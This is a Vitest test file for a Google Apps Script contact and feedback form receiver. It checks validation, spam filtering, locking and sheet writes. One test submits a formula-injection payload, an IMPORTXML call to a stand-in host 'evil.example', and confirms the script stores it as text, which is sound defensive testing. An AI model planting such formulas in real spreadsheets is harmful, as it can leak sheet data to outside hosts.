// @vitest-environment node
/**
 * Runs the production receiver (engine/forms/apps-script/Code.gs) against fake
 * Google services, and checks it applies exactly the rules of contract.ts.
 */
import { readFileSync } from "node:fs";
import { runInNewContext } from "node:vm";
import { describe, expect, it } from "vitest";
import { checkSubmission, FIELD_LABELS, FORM_FIELDS, isSpam, MIN_FILL_MS, REQUIRED_FIELDS } from "../../../engine/forms/contract";
import { sentByAPerson, validContact, validFeedback } from "./support";

const CODE_GS = readFileSync(new URL("../../../engine/forms/apps-script/Code.gs", import.meta.url), "utf8");

interface FakeOutput {
  text: string;
  mimeType?: string;
}

function loadAppsScript(options: { lockAvailable?: boolean } = {}) {
  const sheets = new Map<string, unknown[][]>();
  const frozen = new Map<string, number>();
  let lockHeld = false;
  const rowsWrittenWithoutLock: unknown[][] = [];

  const sheetHandle = (name: string) => ({
    appendRow(row: unknown[]) {
      if (!lockHeld) rowsWrittenWithoutLock.push(row);
      sheets.get(name)?.push(row);
    },
    setFrozenRows(count: number) {
      frozen.set(name, count);
    },
  });
  const globals: Record<string, unknown> = {
    console: { error: () => undefined, log: () => undefined },
    SpreadsheetApp: {
      getActiveSpreadsheet: () => ({
        getSheetByName: (name: string) => (sheets.has(name) ? sheetHandle(name) : null),
        insertSheet: (name: string) => {
          sheets.set(name, []);
          return sheetHandle(name);
        },
      }),
      flush: () => undefined,
    },
    LockService: {
      getScriptLock: () => ({
        tryLock: () => (lockHeld = options.lockAvailable ?? true),
        releaseLock: () => (lockHeld = false),
      }),
    },
    ContentService: {
      MimeType: { JSON: "application/json" },
      createTextOutput: (text: string): FakeOutput & { setMimeType(type: string): FakeOutput } => ({
        text,
        setMimeType(type: string) {
          this.mimeType = type;
          return this;
        },
      }),
    },
  };
  runInNewContext(CODE_GS, globals);

  const doPost = globals.doPost as (e: { parameter: Record<string, string> }) => FakeOutput;
  return {
    globals,
    sheets,
    frozen,
    rowsWrittenWithoutLock,
    /** Posts as a person's browser does (with the empty trap and the time the form was open), or exactly `parameter` when raw. */
    post(parameter: Record<string, string>, { raw = false } = {}) {
      const output = doPost({ parameter: raw ? parameter : sentByAPerson(parameter) });
      expect(output.mimeType).toBe("application/json");
      return JSON.parse(output.text) as { result: string; error?: string };
    },
  };
}

// Values from the script's realm: compare them as plain JSON.
const plain = (value: unknown) => JSON.parse(JSON.stringify(value)) as unknown;

describe("Code.gs (production receiver)", () => {
  it("uses the same field lists, required fields and labels as contract.ts", () => {
    const { globals } = loadAppsScript();
    expect(plain(globals.FORM_FIELDS)).toEqual(FORM_FIELDS);
    expect(plain(globals.REQUIRED_FIELDS)).toEqual(REQUIRED_FIELDS);
    expect(plain(globals.FIELD_LABELS)).toEqual(FIELD_LABELS);
  });

  it("appends a contact row (timestamp, then fields in contract order) under a header it creates", () => {
    const script = loadAppsScript();
    expect(script.post(validContact)).toEqual({ result: "success" });
    expect(script.post({ ...validContact, firstName: "Second" })).toEqual({ result: "success" });

    const rows = script.sheets.get("contact") ?? [];
    expect(rows[0]).toEqual(["receivedAt", ...FORM_FIELDS.contact]);
    expect(rows).toHaveLength(3);
    expect(Object.prototype.toString.call(rows[1]?.[0])).toBe("[object Date]");
    // A leading + would make the sheet treat the phone number as a formula; the script keeps it as text.
    expect(rows[1]?.slice(1)).toEqual(FORM_FIELDS.contact.map((name) => (name === "phone" ? `'${validContact.phone}` : validContact[name])));
    expect(script.frozen.get("contact")).toBe(1);
    expect(script.sheets.has("feedback")).toBe(false);
    expect(script.rowsWrittenWithoutLock.filter((row) => row[0] !== "receivedAt")).toEqual([]);
  });

  it("appends a feedback row to the feedback sheet", () => {
    const script = loadAppsScript();
    expect(script.post(validFeedback)).toEqual({ result: "success" });
    expect(script.sheets.get("feedback")?.[1]?.slice(1)).toEqual(FORM_FIELDS.feedback.map((name) => validFeedback[name]));
  });

  it("stores formula-like input as text", () => {
    const script = loadAppsScript();
    script.post({ ...validContact, message: '=IMPORTXML("https://evil.example")' });
    expect(script.sheets.get("contact")?.[1]?.[6]).toBe(`'=IMPORTXML("https://evil.example")`);
  });

  it.each([
    ["a valid contact form", validContact],
    ["a valid feedback form", validFeedback],
    ["contact without a first name", { ...validContact, firstName: "" }],
    ["contact with nothing but a type", { formType: "contact" }],
    ["contact with a bad e-mail", { ...validContact, email: "ada@example" }],
    ["feedback without a subject", { ...validFeedback, subject: "  " }],
    ["feedback with consent 'No'", { ...validFeedback, privacyConsent: "No" }],
    ["feedback without consent", { ...validFeedback, privacyConsent: "" }],
    ["an unknown form type", { ...validContact, formType: "newsletter" }],
    ["a form type from Object.prototype", { ...validContact, formType: "toString" }],
    ["no form type", { name: "x" }],
  ])("answers %s exactly as contract.ts would", (_label, fields: Record<string, string>) => {
    const expected = checkSubmission(fields);
    const script = loadAppsScript();
    expect(script.post(fields)).toEqual(expected.ok ? { result: "success" } : { result: "error", error: expected.error });
  });

  it.each([
    ["the hidden field filled", { ...sentByAPerson(validContact), website: "x" }],
    ["sent too fast", { ...sentByAPerson(validContact), elapsedMs: String(MIN_FILL_MS - 1) }],
    ["no time at all", { ...validContact }],
    ["just long enough", { ...sentByAPerson(validContact), elapsedMs: String(MIN_FILL_MS) }],
    ["an invalid form that is also automated", { formType: "contact", website: "x" }],
  ])("drops spam exactly as contract.ts would: %s", (_label, fields: Record<string, string>) => {
    const script = loadAppsScript();
    const spam = isSpam(fields);
    const expected = checkSubmission(fields);
    expect(script.post(fields, { raw: true })).toEqual(spam || expected.ok ? { result: "success" } : { result: "error", error: expected.ok ? "" : expected.error });
    expect([...script.sheets.values()].flat().length > 0, "a row was written").toBe(!spam && expected.ok);
  });

  it("answers an error, and writes nothing, when it cannot get the lock", () => {
    const script = loadAppsScript({ lockAvailable: false });
    expect(script.post(validContact)).toEqual({ result: "error", error: expect.stringMatching(/busy/) as unknown });
    expect(script.sheets.size).toBe(0);
  });

  it("answers {ok:true} to a browser visit (doGet)", () => {
    const { globals } = loadAppsScript();
    const output = (globals.doGet as () => FakeOutput)();
    expect(JSON.parse(output.text)).toEqual({ ok: true });
  });
});
